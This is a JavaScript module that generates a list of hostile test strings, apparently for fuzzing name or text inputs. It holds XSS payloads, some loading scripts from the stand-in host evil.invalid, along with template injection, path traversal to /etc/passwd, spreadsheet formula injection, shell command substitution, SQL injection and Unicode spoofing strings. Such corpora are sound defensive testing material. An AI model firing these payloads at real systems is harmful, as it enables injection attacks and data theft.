// Strings that want to be more than text: markup, addresses, formulas, directions, lengths. Three hundred and some.

const SCRIPT = "window.__ran=1";
// Ways to run a script once markup gets through.
const RUNS = [
  `<script>${SCRIPT}</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img/src=x/onerror=${SCRIPT}//`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<body onload=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>">`,
  `<iframe src="javascript:${SCRIPT}">`,
  `<object data="javascript:${SCRIPT}">`,
  `<embed src="javascript:${SCRIPT}">`,
  `<a href="javascript:${SCRIPT}" autofocus>x</a>`,
  `<form action="javascript:${SCRIPT}"><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<style>*{background:url(//evil.invalid)}</style>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.invalid">`,
  `<base href=//evil.invalid/>`,
  `<marquee onstart=${SCRIPT}>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}>`,
];
// Ways out of where a text stands.
const OUT = ["", "\">", "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "\" ", "&quot;>"];
const TEMPLATES = ["{{7*7}}", "{% include \"/etc/passwd\" %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "%s%n%x", "`id`", "$(id)"];
const ADDRESSES = ["javascript:alert(1)", " javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.invalid", "\\\\evil.invalid\\x", "../../../../etc/passwd", "/v1/logout", "?a=b&c=d#e", "%00%0d%0a", "%3Cscript%3E"];
const FORMULAS = ["=1+1", "=HYPERLINK(\"//evil.invalid\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\"=1+1\"", ";=1+1", ",=1+1", "'=1+1"];
const LETTERS = [
  "‮evil‬", "a​b", "﻿bom", "⁦⁧⁨", "Ω≈ç√∫", "田中さんにあげて", "مرحبا", "שלום", "👩‍👩‍👧‍👦👍🏽", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "ＡＤＭＩＮ", "аdmin", "ﷺ", "🇺🇳", "�", "\u{10ffff}", " ", "nbsp nbsp", "ﬁ", "İıſK",
];
const LENGTHS = ["W".repeat(100), "i".repeat(100), "田".repeat(100), "👍".repeat(50), "a ".repeat(49) + "a", "‮" + "x".repeat(99), "_".repeat(100), "ﷺ".repeat(100)];
const WORDS = ["null", "undefined", "NaN", "true", "0", "-1", "1e309", "[object Object]", "constructor", "__proto__", "toString", "new", "check", "' OR '1'='1", "'; drop table orgs; --", "\\", "\\\\", "\\'", "\"", "'", "`", "<", ">", "&", "&lt;script&gt;", "&#60;script&#62;", "<!--", "<![CDATA[", "</", "<>"];

/** All of them, each once, none longer than a name may be. */
export const HOSTILE = [...new Set([
  ...OUT.flatMap((out) => RUNS.map((run) => out + run)),
  ...TEMPLATES, ...ADDRESSES, ...FORMULAS, ...LETTERS, ...LENGTHS, ...WORDS,
].map((text) => [...text].slice(0, 100).join("")))];

/** As a name can be: without control characters, without space at its ends; none where nothing is left. */
export const nameable = (text) => text.replace(/\p{Cc}/gu, "").trim();
